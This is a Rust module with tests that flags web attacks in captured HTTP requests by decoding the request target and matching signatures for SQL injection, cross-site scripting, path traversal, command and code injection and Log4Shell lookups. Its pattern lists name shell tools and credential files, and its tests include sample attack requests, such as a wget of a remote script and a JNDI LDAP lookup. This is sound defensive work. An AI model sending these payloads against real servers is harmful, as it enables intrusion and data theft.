//! Obvious web attacks in the first bytes of HTTP requests: SQL injection, cross-site
//! scripting, path traversal, command and code injection, JNDI lookups (`Log4Shell`). The
//! request target is percent-decoded twice (double encoding is a classic evasion), `+` read as
//! a space, lower-cased and runs of whitespace folded, then searched for fixed patterns; the
//! whole captured head is searched for `${jndi:`, which attackers put in any header.
//!
//! These are signatures, not a web application firewall: they see only the head of a request
//! (the capture keeps 192 bytes), and they name what they matched so that an analyst can
//! judge it.

/// What a request matched.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Match {
    pub kind: &'static str,
    pub pattern: &'static str,
}

/// Patterns by kind, matched against the normalized request target.
const PATTERNS: [(&str, &[&str]); 5] = [
    (
        "sql injection",
        &[
            "union select",
            "union all select",
            "information_schema",
            "' or '",
            "' or 1=1",
            "' and '",
            "' and 1=1",
            "' or 1 ",
            "'--",
            "' --",
            "';--",
            "'#",
            "sleep(",
            "benchmark(",
            "waitfor delay",
        ],
    ),
    (
        "cross-site scripting",
        &["<script", "javascript:", "onerror=", "onload=", "<svg", "<iframe", "alert("],
    ),
    (
        "path traversal",
        &["../", "..\\", "/etc/passwd", "/etc/shadow", "c:\\windows", "/proc/self/"],
    ),
    (
        "command injection",
        &[
            ";wget ",
            ";curl ",
            "|wget ",
            "|curl ",
            ";sh ",
            "|sh ",
            "/bin/sh",
            "/bin/bash",
            "cmd.exe",
            "$(",
            ";id;",
            ";cat ",
            "|cat ",
        ],
    ),
    (
        "code injection",
        &["phpinfo(", "passthru(", "system(", "shell_exec(", "eval(", "base64_decode(", "exec("],
    ),
];

const METHODS: [&[u8]; 7] =
    [b"GET ", b"POST ", b"PUT ", b"HEAD ", b"DELETE ", b"OPTIONS ", b"PATCH "];

/// The request target of an HTTP/1 request that starts `payload` (up to " HTTP/", the end of
/// the line, or the end of the captured bytes); `None` when the payload does not start with a
/// request line.
pub fn request_target(payload: &[u8]) -> Option<&[u8]> {
    let method = METHODS.iter().find(|m| payload.starts_with(m))?;
    let rest = &payload[method.len()..];
    let end = rest.iter().position(|&b| b == b'\r' || b == b'\n').unwrap_or(rest.len());
    let line = &rest[..end];
    let target = line.windows(6).position(|w| w == b" HTTP/").map_or(line, |i| &line[..i]);
    Some(target)
}

fn hex(b: u8) -> Option<u8> {
    match b {
        b'0'..=b'9' => Some(b - b'0'),
        b'a'..=b'f' => Some(b - b'a' + 10),
        b'A'..=b'F' => Some(b - b'A' + 10),
        _ => None,
    }
}

fn percent_decode(input: &[u8], out: &mut Vec<u8>) {
    out.clear();
    let mut i = 0;
    while i < input.len() {
        let b = input[i];
        if b == b'%'
            && let (Some(h), Some(l)) =
                (input.get(i + 1).and_then(|&h| hex(h)), input.get(i + 2).and_then(|&l| hex(l)))
        {
            out.push(h << 4 | l);
            i += 3;
            continue;
        }
        out.push(if b == b'+' { b' ' } else { b });
        i += 1;
    }
}

/// The request target decoded twice, lower-cased, whitespace runs folded into one space.
pub fn normalize(target: &[u8]) -> String {
    let (mut once, mut twice) = (Vec::with_capacity(target.len()), Vec::new());
    percent_decode(target, &mut once);
    percent_decode(&once, &mut twice);
    let mut s = String::with_capacity(twice.len());
    let mut space = false;
    for c in String::from_utf8_lossy(&twice).chars() {
        if c.is_whitespace() {
            if !space {
                s.push(' ');
            }
            space = true;
        } else {
            s.extend(c.to_lowercase());
            space = false;
        }
    }
    s
}

/// The first attack pattern in the request that starts `payload`, with the normalized target
/// it was found in.
pub fn attack(payload: &[u8]) -> Option<(Match, String)> {
    let target = normalize(request_target(payload)?);
    for (kind, patterns) in PATTERNS {
        if let Some(pattern) = patterns.iter().find(|p| target.contains(*p)) {
            return Some((Match { kind, pattern }, target));
        }
    }
    let jndi = b"${jndi:";
    if payload.windows(jndi.len()).any(|w| w.eq_ignore_ascii_case(jndi)) {
        return Some((Match { kind: "jndi lookup", pattern: "${jndi:" }, target));
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;

    fn kind(request: &str) -> Option<&'static str> {
        attack(request.as_bytes()).map(|(m, _)| m.kind)
    }

    #[test]
    fn finds_the_request_target() {
        assert_eq!(request_target(b"GET /a?b=c HTTP/1.1\r\nHost: x\r\n"), Some(&b"/a?b=c"[..]));
        assert_eq!(request_target(b"POST /login HTTP/1.0\r\n"), Some(&b"/login"[..]));
        // Cut by the capture before the protocol.
        assert_eq!(request_target(b"GET /very/long/pa"), Some(&b"/very/long/pa"[..]));
        assert_eq!(request_target(b"HTTP/1.1 200 OK\r\n"), None);
        assert_eq!(request_target(b"\x16\x03\x01\x02\x00"), None);
        assert_eq!(request_target(b"get / HTTP/1.1"), None, "methods are case-sensitive");
    }

    #[test]
    fn decodes_twice_folds_case_and_space() {
        assert_eq!(normalize(b"/?id=%2527+UNION%20%20SeLeCt"), "/?id=' union select");
        assert_eq!(normalize(b"/%zz%4"), "/%zz%4", "bad escapes stay as they are");
    }

    #[test]
    fn flags_the_shared_captures_kinds_of_attack() {
        for (req, want) in [
            (
                "GET /dv/vulnerabilities/sqli/?id=1%27+and+1%3D1%23&Submit=Submit HTTP/1.1",
                "sql injection",
            ),
            (
                "GET /sqli/?id=%3Fid%3Da%27+UNION+SELECT+%22text1%22%2C%22text2%22%3B--+- HTTP/1.1",
                "sql injection",
            ),
            (
                "GET /xss_d/?default=English%3Cscript%3Ealert(1)%3C/script%3E HTTP/1.1",
                "cross-site scripting",
            ),
            (
                "GET /wu-moadmin.php?collection=secpulse&action=listRows&find=array();phpinfo();exit; HTTP/1.1",
                "code injection",
            ),
            (
                "GET /index.php?t=2&highlight=%2527.%70%61%73%73%74%68%72%75%28%24%48 HTTP/1.1",
                "code injection",
            ),
            ("GET /cgi-bin/../../../../etc/passwd HTTP/1.1", "path traversal"),
            ("GET /ping?host=1.1.1.1;wget%20http://x/a.sh HTTP/1.1", "command injection"),
            ("POST /login HTTP/1.1\r\nUser-Agent: ${jndi:ldap://x/a}\r\n", "jndi lookup"),
        ] {
            assert_eq!(kind(req), Some(want), "{req}");
        }
    }

    #[test]
    fn leaves_ordinary_requests_alone() {
        for req in [
            "GET / HTTP/1.1\r\nHost: example.com\r\nUser-Agent: Mozilla/5.0 (X11; Linux x86_64)\r\n",
            "GET /search?q=union+station+opening+hours HTTP/1.1",
            "GET /static/app.js?v=3.2.1 HTTP/1.1",
            "GET /wiki/O%27Reilly_Media HTTP/1.1",
            "POST /api/v1/items HTTP/1.1\r\nContent-Type: application/json\r\n",
            "GET /a/./b/index.html HTTP/1.1",
        ] {
            assert_eq!(kind(req), None, "{req}");
        }
    }
}
